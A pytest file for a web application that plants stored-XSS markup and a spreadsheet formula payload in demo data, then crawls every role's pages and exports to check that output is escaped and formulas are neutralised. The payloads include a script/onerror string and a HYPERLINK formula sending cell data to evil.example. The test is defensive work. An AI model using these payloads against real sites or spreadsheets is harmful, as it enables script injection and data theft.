"""Every role walks the site with hostile text in every field people can write: markup is always escaped, a
spreadsheet never gets a formula, and no page repeats an id (a label must find its own field).

The demo data (every area's) is loaded, then every free-text column of every table gets a payload appended
(columns that are keys, codes, checked choices, e-mail addresses or hashes are left alone: no form lets a
person write markup there). Each role then walks the site from its start page as a browser would, following
every link and every htmx ``hx-get`` (one or two pages of each address pattern), and asks for the downloads it
finds. Every HTML and SVG answer must hold the payload only escaped and each id once; every CSV and XLSX cell
that starts like a formula must have been neutralised.
"""

import csv
import io
import re
from collections import Counter, deque
from urllib.parse import urlsplit

import openpyxl
import pytest
import sqlalchemy as sa

from blueprints.accounts.demo import DEMO_PASSWORD
from blueprints.core.db import db
from blueprints.core.demo import seed_demo
from blueprints.core.models import OutboxEmail
from blueprints.core.outbox import queue_email
from tests.conftest import csrf_token

MARKUP = "<script>alert('kk')</script><img src=x onerror=alert('kk')>"
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1;"x")'
RAW_MARKUP = ("<script>alert('kk')", "<img src=x onerror")
MARKER = {MARKUP: "kk", FORMULA: "HYPERLINK"}  # seen, escaped, on a page that shows the poisoned text

# Columns nobody writes free text into: identities, codes, hashes, addresses, stored choices.
NOT_FREE_TEXT = re.compile(
    r"(^|_)(id|email|recipient|hash|key|token|sha256|code|codes|number|status|kind|role|language|phase|format|"
    r"purpose|visibility|level|interest|method|prefix|claimed_by|content_type|search_text|sort_key|message_id|"
    r"ip_address|user_agent|worker|stage|diary_number|weekday|action|object_type|calendar_method|payload_name|"
    r"subject|body_text|body_html|calendar_ics)$"  # an e-mail as sent: written by templates, not by people
)
# A history entry's detail is a copy of a name or title, except for a phase change, where it is the phase's code.
ONLY_WHERE = {"network_event.detail": sa.text("kind != 'phase'")}
PAGES_PER_PATTERN = 2
MAX_PAGES = 120
ROLES = {
    "anonymous": None,
    "buyer": "buyer@example.org",
    "facilitator": "facilitator@example.org",
    "manager": "manager@example.org",
    "admin": "admin@example.org",
}


def _free_text_columns() -> list[sa.Column]:
    """The String and Text columns a person's words end up in."""
    columns = []
    for table in db.metadata.sorted_tables:
        if table.info.get("reference_data"):
            continue
        checked = " ".join(str(c.sqltext) for c in table.constraints if isinstance(c, sa.CheckConstraint))
        unique = {col.name for c in table.constraints if isinstance(c, sa.UniqueConstraint) for col in c.columns}
        unique |= {col.name for index in table.indexes if index.unique for col in index.columns}
        for column in table.columns:
            if not isinstance(column.type, sa.String) or column.primary_key or column.foreign_keys:
                continue
            if column.name in unique or re.search(rf"\b{column.name}\b", checked) or NOT_FREE_TEXT.search(column.name):
                continue
            columns.append(column)
    return columns


def _poison(payload: str) -> int:
    """Append the payload to every free-text value (cut to the column's length); returns the columns touched."""
    columns = _free_text_columns()
    for column in columns:
        length = getattr(column.type, "length", None)
        keep = sa.func.substr(column, 1, max(length - len(payload) - 1, 0)) if length else column
        value = keep + " " + payload if not length or length > len(payload) else sa.literal(payload[:length])
        where = [column.is_not(None), ONLY_WHERE.get(f"{column.table.name}.{column.name}", sa.true())]
        db.session.execute(sa.update(column.table).where(*where).values({column.name: value}))
    db.session.commit()
    return len(columns)


def _pattern(path: str) -> str:
    """The address with numbers and query values blanked: /stod/12?page=2 and /stod/13?page=3 are one pattern."""
    parts = urlsplit(path)
    query = "&".join(sorted(p.split("=")[0] for p in parts.query.split("&") if p))
    return re.sub(r"\d+", "#", parts.path) + "?" + query


LINK = re.compile(r'(?:href|hx-get|src)="(/[^"#]*)')


def _links(html: str) -> list[str]:
    return [m.replace("&amp;", "&") for m in LINK.findall(html) if not m.startswith(("/static/", "//"))]


def _check_markup(role: str, path: str, body: str) -> None:
    for raw in RAW_MARKUP:
        assert raw not in body, f"{role} {path}: unescaped {raw!r}"


ID = re.compile(r'\sid="([^"]+)"')


def _check_unique_ids(role: str, path: str, body: str) -> None:
    ids = Counter(ID.findall(body))
    repeated = sorted(name for name, count in ids.items() if count > 1)
    assert repeated == [], f"{role} {path}: ids used more than once: {repeated}"


def _check_formulas(role: str, path: str, rows: list[list[object]]) -> int:
    """No text cell starts with a formula; returns how many cells held the payload (neutralised)."""
    found = 0
    for row in rows:
        for cell in row:
            if isinstance(cell, str) and "HYPERLINK" in cell:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), f"{role} {path}: formula {cell!r}"
                found += 1
    return found


def _download_rows(path: str, response) -> list[list[object]]:
    if path.split("?")[0].endswith(".csv"):
        return list(csv.reader(io.StringIO(response.get_data(as_text=True)), delimiter=";"))
    book = openpyxl.load_workbook(io.BytesIO(response.data))
    return [list(row) for sheet in book.worksheets for row in sheet.iter_rows(values_only=True)]


def _walk(app, role: str, email: str | None, payload: str) -> Counter:
    """Visit what the role can reach from its start page; check every answer; count what was seen."""
    client = app.test_client()
    if email:
        token = csrf_token(client)
        client.post("/login", data={"email": email, "password": DEMO_PASSWORD, "csrf_token": token})
    seen: Counter = Counter()
    queue, visited, per_pattern = deque(["/", "/kunskap/", "/login"]), set(), Counter()
    while queue and seen["pages"] < MAX_PAGES:
        path = queue.popleft()
        pattern = _pattern(path)
        if path in visited or per_pattern[pattern] >= PAGES_PER_PATTERN or "/logout" in path:
            continue
        visited.add(path)
        per_pattern[pattern] += 1
        headers = {"HX-Request": "true", "HX-Request-Type": "partial"} if "partial" in path else {}
        response = client.get(path, headers=headers)
        assert response.status_code < 500, f"{role} {path}: {response.status_code}"
        kind = response.mimetype
        seen["pages"] += 1
        if kind in ("text/html", "image/svg+xml"):
            body = response.get_data(as_text=True)
            _check_markup(role, path, body)
            _check_unique_ids(role, path, body)
            seen["with payload"] += MARKER[payload] in body
            queue.extend(_links(body))
        elif kind == "text/calendar":
            body = response.get_data(as_text=True)
            assert "\r\nBcc" not in body
            seen["calendars"] += 1
        elif kind in ("text/csv", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"):
            seen["downloads"] += 1
            seen["formula cells"] += _check_formulas(role, path, _download_rows(path, response))
    return seen


@pytest.mark.parametrize("payload", [MARKUP, FORMULA], ids=["markup", "formula"])
def test_stored_payloads_are_escaped_and_neutralised_everywhere(app, payload):
    with app.app_context():
        seed_demo()
        assert _poison(payload) > 30
    totals: Counter = Counter()
    for role, email in ROLES.items():
        seen = _walk(app, role, email, payload)
        assert seen["pages"] > (5 if email is None else 20), (role, seen)
        totals.update(seen)
    assert totals["with payload"] > 50 and totals["downloads"] >= 3
    if payload == FORMULA:
        assert totals["formula cells"] > 10  # the payload reached the exports, neutralised


def test_emails_escape_what_people_wrote(app):
    """E-mails made from the poisoned demo data (session reminders with their calendar files) and a reset
    e-mail to a person whose name is markup."""
    from datetime import timedelta

    from blueprints.support.models import Booking
    from blueprints.support.services import send_reminders

    with app.test_request_context():
        seed_demo()
        _poison(MARKUP)
        before = db.session.scalar(sa.select(sa.func.max(OutboxEmail.id))) or 0
        booked = db.session.scalars(sa.select(Booking).where(Booking.status == "bokad").order_by(Booking.starts_at))
        first = next(iter(booked))
        assert send_reminders(now=first.starts_at - timedelta(hours=2)) >= 1
        queue_email(
            recipient="x@example.org",
            language="sv",
            template="password_reset",
            subject="Återställ ditt lösenord i Köpkraft",
            name=MARKUP,
            link="http://localhost/x",
            hours=1,
        )
        db.session.flush()
        new = db.session.scalars(sa.select(OutboxEmail).where(OutboxEmail.id > before)).all()
        assert len(new) >= 3 and any("kk" in email.body_html for email in new)
        for email in new:
            for raw in RAW_MARKUP:
                assert raw not in email.body_html
            assert "\n" not in email.subject
